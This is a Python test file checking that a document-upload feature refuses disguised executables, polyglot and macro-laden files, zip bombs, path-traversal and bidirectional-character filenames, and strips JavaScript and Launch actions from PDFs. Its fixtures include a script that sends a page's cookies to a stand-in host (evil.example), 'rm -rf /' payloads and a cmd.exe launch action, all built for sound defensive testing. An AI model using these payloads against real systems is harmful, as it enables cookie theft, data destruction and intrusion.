"""Uploads are refused unless they are really a PDF, DOCX or ODT of at most 10 Mo; a refused
upload leaves nothing behind (no stored file, no Document row, no audit event, same data
version), even if the caller commits; names never reach the file system; downloads follow
the right to read the rencontre."""

from __future__ import annotations

import hashlib
import io
import tracemalloc
import zipfile
from pathlib import Path

import pikepdf
import pytest
from sqlalchemy import func
from sqlmodel import Session, select

from q2030 import apres_ecriture
from q2030.documents import MAX_BYTES, add_document, detect_type, read_document
from q2030.errors import IntrouvableError, PermissionRefusee, ValidationError
from q2030.models import AuditEvent, Document, stored_id
from q2030.pdf_reecriture import rewrite
from q2030.rencontres.ecriture import create_rencontre
from tests.helpers import pdf_document
from tests.rencontres_data import (
    ADMIN,
    COMMISSION,
    PREFET_ARA,
    PREFET_IDF,
    REFERENT_69,
    REFERENT_93,
    held,
    load_geography,
)

PDF = pdf_document()
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x90" * 200
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"PE\x00\x00" + b"\x90" * 200


HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
# The parts of real files: Word 2016 (via python-docx's template), LibreOffice 24 (DOCX and ODT).
WORD_PARTS = {
    name: b"<x/>"
    for name in (
        "[Content_Types].xml",
        "_rels/.rels",
        "customXml/_rels/item1.xml.rels",
        "customXml/item1.xml",
        "customXml/itemProps1.xml",
        "docProps/app.xml",
        "docProps/core.xml",
        "docProps/custom.xml",
        "word/_rels/document.xml.rels",
        "word/document.xml",
        "word/fontTable.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/styles.xml",
        "word/stylesWithEffects.xml",
        "word/theme/theme1.xml",
        "word/webSettings.xml",
        "word/footer1.xml",
        "word/charts/chart1.xml",
        "word/charts/_rels/chart1.xml.rels",
    )
} | {
    "docProps/thumbnail.jpeg": b"\xff\xd8",
    "word/media/image1.wmf": b"\xd7\xcd",
    "word/media/image2.PNG": b"\x89PNG",
}
ODT_PARTS = {
    "mimetype": b"application/vnd.oasis.opendocument.text",
    **{
        name: b"<x/>"
        for name in (
            "content.xml", "styles.xml", "meta.xml", "settings.xml", "manifest.rdf", "META-INF/manifest.xml",
            "Configurations2/accelerator/current.xml",
        )
    },
    "Configurations2/toolbar/": b"", "Configurations2/images/Bitmaps/": b"", "Thumbnails/thumbnail.png": b"\x89PNG",
    "Pictures/2000008600001923000012C24E0D0895.wmf": b"\xd7\xcd", "layout-cache": b"\x00\x01",
}  # fmt: skip


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def uploads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Two levels down, so that a "../../" escape would still land inside tmp_path, where we look."""
    folder = tmp_path / "srv" / "depot"
    monkeypatch.setenv("Q2030_UPLOAD_DIR", str(folder))
    return folder


@pytest.fixture
def rencontre_id(session: Session) -> int:
    load_geography(session)
    rencontre = create_rencontre(session, actor=REFERENT_93, data=held())
    session.commit()
    return stored_id(rencontre)


def _state(session: Session, uploads: Path) -> tuple[int, int, int, list[str]]:
    documents = session.exec(select(func.count()).select_from(Document)).one()
    events = session.exec(select(func.count()).select_from(AuditEvent)).one()
    files = sorted(p.name for p in uploads.iterdir()) if uploads.exists() else []
    return documents, events, apres_ecriture.data_version(session), files


REFUSED = [
    pytest.param("rapport.pdf", ELF, "n'est ni un PDF, ni un document Word (DOCX), ni un ODT", id="elf-named-pdf"),
    pytest.param("rapport.pdf", MZ, "n'est ni un PDF, ni un document Word (DOCX), ni un ODT", id="exe-named-pdf"),
    pytest.param("gros.pdf", b"%PDF-1.4\n" + b"0" * (MAX_BYTES + 1 - 9), "dépasse 10 Mo", id="10-mo-plus-1-octet"),
    pytest.param(
        "../../etc/passwd.pdf",
        b"root:x:0:0:root:/root:/bin/bash\n",
        "n'est ni un PDF, ni un document Word (DOCX), ni un ODT",
        id="traversal-name",
    ),
    pytest.param(
        "compte-rendu.docx",
        _zip({"script.sh": b"#!/bin/sh\nrm -rf /\n", "readme.txt": b"bonjour"}),
        "n'est ni un PDF, ni un document Word (DOCX), ni un ODT",
        id="zip-not-docx",
    ),
    pytest.param(
        "compte-rendu.odt",
        _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"}),
        "n'est ni un PDF, ni un document Word (DOCX), ni un ODT",
        id="ods-named-odt",
    ),
    pytest.param("vide.pdf", b"", "est vide", id="empty"),
    # Polyglots: a real document type carrying something else.
    pytest.param("cr.pdf", PDF + _zip({"setup.exe": MZ}), "ne se termine pas comme un PDF", id="pdf-then-zip"),
    pytest.param(
        "cr.pdf", PDF + _zip({"setup.exe": MZ}) + b"%%EOF\n", "une archive ou une page web", id="pdf-then-zip-then-eof"
    ),
    pytest.param("cr.pdf", PDF + HTML, "ne se termine pas comme un PDF", id="pdf-then-html"),
    pytest.param("cr.pdf", PDF + HTML + b"\n%%EOF\n", "une archive ou une page web", id="pdf-then-html-then-eof"),
    pytest.param("cr.pdf", PDF[:-12], "ne se termine pas comme un PDF", id="pdf-truncated"),
    pytest.param(
        "cr.docx", _zip({**WORD_PARTS, "word/media/setup.exe": MZ}), "contient « word/media/setup.exe »", id="docx-exe"
    ),
    pytest.param("cr.docx", _zip({**WORD_PARTS, "setup.exe": MZ}), "contient « setup.exe »", id="docx-exe-at-root"),
    pytest.param(
        "cr.docx", _zip({**WORD_PARTS, "word/vbaProject.bin": b"\xd0\xcf"}), "« word/vbaProject.bin »", id="docx-macros"
    ),
    pytest.param(
        "cr.docx", _zip({**WORD_PARTS, "word/embeddings/oleObject1.bin": MZ}), "objet incorporé", id="docx-ole-package"
    ),
    # Embedded workbooks and objects, macros or not (a Word chart keeps its data in one).
    pytest.param(
        "cr.docx",
        _zip({**WORD_PARTS, "word/embeddings/Microsoft_Excel_Worksheet.xlsx": _zip({"xl/workbook.xml": b"<w/>"})}),
        "contient un objet incorporé",
        id="docx-embedded-xlsx",
    ),
    pytest.param(
        "cr.docx",
        _zip({**WORD_PARTS, "word/embeddings/Feuille.xlsm": _zip({"xl/vbaProject.bin": b"\xd0\xcf"})}),
        "contient un objet incorporé",
        id="docx-embedded-xlsm",
    ),
    pytest.param(
        "cr.docx",
        _zip({**WORD_PARTS, "word/embeddings/Microsoft_Word_Document.docx": b"PK"}),
        "contient un objet incorporé",
        id="docx-embedded-docx",
    ),
    pytest.param(
        "cr.odt",
        _zip({**ODT_PARTS, "Object 1/content.xml": b"<x/>", "ObjectReplacements/Object 1": b"\x00"}),
        "contient un objet incorporé",
        id="odt-embedded-object",
    ),
    pytest.param(
        "cr.docx", _zip({**WORD_PARTS, "word/../../evil.xml": b"<x/>"}), "« word/../../evil.xml »", id="docx-traversal"
    ),
    pytest.param("cr.odt", _zip({**ODT_PARTS, "Pictures/setup.exe": MZ}), "« Pictures/setup.exe »", id="odt-exe"),
    pytest.param(
        "cr.odt",
        _zip({**ODT_PARTS, "Basic/Standard/Module1.xml": b"<m/>"}),
        "« Basic/Standard/Module1.xml »",
        id="odt-macros",
    ),
]


@pytest.mark.parametrize(("filename", "content", "fragment"), REFUSED)
def test_refused_upload_leaves_nothing(
    session: Session, rencontre_id: int, uploads: Path, tmp_path: Path, filename: str, content: bytes, fragment: str
) -> None:
    before = _state(session, uploads)
    with pytest.raises(ValidationError) as refused:
        add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename=filename, content=content)
    session.commit()  # a careless caller commits anyway: there must be nothing to commit
    message = refused.value.errors["document"][0]
    assert message.startswith("Le fichier « "), message
    assert fragment in message, message
    assert _state(session, uploads) == before == (0, before[1], before[2], [])
    assert not any(p.name.startswith("passwd") for p in tmp_path.rglob("*")), "a name reached the file system"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(_zip(WORD_PARTS), id="docx-word-libreoffice"),
        pytest.param(_zip(ODT_PARTS), id="odt-libreoffice"),
        pytest.param(PDF.rstrip() + b"\r\n\x00 \n", id="pdf-trailing-whitespace"),
        pytest.param(
            PDF + b"2 0 obj <<>> endobj\nxref\ntrailer <<>>\nstartxref\n42\n%%EOF", id="pdf-incremental-update"
        ),
    ],
)
def test_real_documents_are_accepted(session: Session, rencontre_id: int, uploads: Path, content: bytes) -> None:
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr", content=content)
    kept = rewrite(content, "cr") if content.startswith(b"%PDF") else content
    assert (uploads / document.sha256).read_bytes() == kept


def test_oversized_file_is_exactly_one_byte_too_many() -> None:
    oversized = next(p.values[1] for p in REFUSED if p.id == "10-mo-plus-1-octet")
    assert isinstance(oversized, bytes)
    assert len(oversized) == 10 * 1024 * 1024 + 1


def test_valid_pdf_with_traversal_name_is_stored_under_its_hash(
    session: Session, rencontre_id: int, uploads: Path, tmp_path: Path
) -> None:
    document = add_document(
        session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="../../etc/passwd.pdf", content=PDF
    )
    session.commit()
    stored = rewrite(PDF, "passwd.pdf")  # what is kept is qpdf's rewrite of the upload
    digest = hashlib.sha256(stored).hexdigest()
    assert (document.sha256, document.nom_fichier) == (digest, "passwd.pdf")
    assert [p.name for p in uploads.iterdir()] == [digest]
    assert (uploads / digest).read_bytes() == stored
    assert not any(p.name.startswith("passwd") for p in tmp_path.rglob("*")), "the name stays in the database"
    event = session.exec(select(AuditEvent).where(AuditEvent.action == "depot_document")).one()
    assert event.acteur == REFERENT_93.email
    assert (event.apres or {})["nom_fichier"] == "passwd.pdf"


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("..\\..\\Windows\\system32\\cr.pdf", "cr.pdf"),
        ("/etc/cron.d/cr.pdf", "cr.pdf"),
        ("....//....//cr.pdf", "cr.pdf"),
        ("\x00cr\r\n.pdf", "cr.pdf"),
        ("..", "compte-rendu.pdf"),
        ("rapport.exe", "rapport.exe.pdf"),
    ],
)
def test_names_are_reduced_to_a_base_name(
    session: Session, rencontre_id: int, uploads: Path, filename: str, expected: str
) -> None:
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename=filename, content=PDF)
    assert document.nom_fichier == expected
    assert [p.name for p in uploads.iterdir()] == [document.sha256]


def test_zip_bomb_mimetype_is_not_inflated() -> None:
    """An ODT-looking zip whose "mimetype" entry inflates to 50 Mo is refused without reading it."""
    bomb = _zip({"mimetype": b"a" * 50_000_000, "content.xml": b"<office/>"})
    assert len(bomb) < MAX_BYTES
    tracemalloc.start()
    try:
        assert detect_type(bomb) is None
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000, f"{peak} octets alloués pour examiner {len(bomb)} octets"


def test_downloads_follow_the_right_to_read_the_rencontre(session: Session, rencontre_id: int, uploads: Path) -> None:
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr.pdf", content=PDF)
    session.commit()
    for reader in (REFERENT_93, PREFET_IDF, COMMISSION, ADMIN):
        found, content = read_document(session, actor=reader, document_id=stored_id(document))
        assert (found.nom_fichier, content) == ("cr.pdf", PDF)
    for outsider in (REFERENT_69, PREFET_ARA):
        with pytest.raises(PermissionRefusee) as refused:
            read_document(session, actor=outsider, document_id=stored_id(document))
        assert "pas accès" in str(refused.value)


def test_a_tampered_stored_file_is_not_served(session: Session, rencontre_id: int, uploads: Path) -> None:
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr.pdf", content=PDF)
    session.commit()
    (uploads / document.sha256).write_bytes(b"<html><script>alert(1)</script></html>")
    with pytest.raises(IntrouvableError) as caught:
        read_document(session, actor=REFERENT_93, document_id=stored_id(document))
    assert "altéré" in str(caught.value)


def test_file_names_lose_control_and_bidirectional_characters() -> None:
    """Issue 21 #10 (names): a right-to-left override (U+202E) shows « facture<RLO>fdp.exe » as « factureexe.pdf »."""
    from q2030.documents import sanitize_filename

    hostile = "facture\u202efdp.exe\u200b\u2066x\u2069\u00ad\u2028.pdf"
    cleaned = sanitize_filename(hostile, "pdf")
    assert cleaned == "facturefdp.exex.pdf"
    assert all(ord(ch) >= 0x20 and ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" for ch in cleaned)


def test_docx_media_must_be_images_by_their_content() -> None:
    """Issue 21 #10 (media): an executable named word/media/photo.png is refused."""
    from q2030.documents import structure_problem

    assert structure_problem(_zip(WORD_PARTS), "docx") is None
    hostile = _zip({**WORD_PARTS, "word/media/photo.png": b"MZ\x90\x00" + b"\x00" * 60})
    problem = structure_problem(hostile, "docx")
    assert problem is not None
    assert "word/media/photo.png" in problem
    odt = _zip({**ODT_PARTS, "Pictures/photo.jpg": b"#!/bin/sh\nrm -rf /\n"})
    assert "Pictures/photo.jpg" in (structure_problem(odt, "odt") or "")


# --- PDFs are rewritten by qpdf: only the rewritten file is kept -------------------------------


def _hostile_pdf(kind: str) -> bytes:
    pdf = pikepdf.open(io.BytesIO(PDF))
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    if kind == "openaction-javascript":
        pdf.Root.OpenAction = script
    elif kind == "document-javascript":
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script])))
    elif kind == "launch-link":
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=launch)
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    elif kind == "page-javascript":
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=script)
    elif kind == "embedded-file":
        pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, MZ)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "kind", ["openaction-javascript", "document-javascript", "launch-link", "page-javascript", "embedded-file"]
)
def test_pdf_is_rewritten_without_scripts_actions_or_attachments(
    session: Session, rencontre_id: int, uploads: Path, kind: str
) -> None:
    hostile = _hostile_pdf(kind)
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr.pdf", content=hostile)
    session.commit()
    _document, served = read_document(session, actor=REFERENT_93, document_id=document.id or 0)
    assert served != hostile, "the upload itself is never kept"
    for marker in (b"/JavaScript", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"cmd.exe", b"app.alert"):
        assert marker not in served, marker
    with pikepdf.open(io.BytesIO(served)) as kept:
        assert len(kept.pages) == 1, "the pages stay"
        assert not kept.attachments


def test_bytes_hidden_before_the_last_end_marker_do_not_survive(
    session: Session, rencontre_id: int, uploads: Path
) -> None:
    # An executable slipped between the real end and a final %%EOF: the text checks pass, qpdf drops it.
    smuggled = PDF + b"% " + MZ.replace(b"\n", b"") + b"\n%%EOF\n"
    document = add_document(session, actor=REFERENT_93, rencontre_id=rencontre_id, filename="cr.pdf", content=smuggled)
    session.commit()
    _document, served = read_document(session, actor=REFERENT_93, document_id=document.id or 0)
    assert b"PE\x00\x00" not in served


def test_a_pdf_qpdf_cannot_parse_is_refused_in_french(session: Session, rencontre_id: int, uploads: Path) -> None:
    with pytest.raises(ValidationError, match="PDF illisible ou endommagé"):
        add_document(
            session,
            actor=REFERENT_93,
            rencontre_id=rencontre_id,
            filename="cr.pdf",
            content=b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
        )
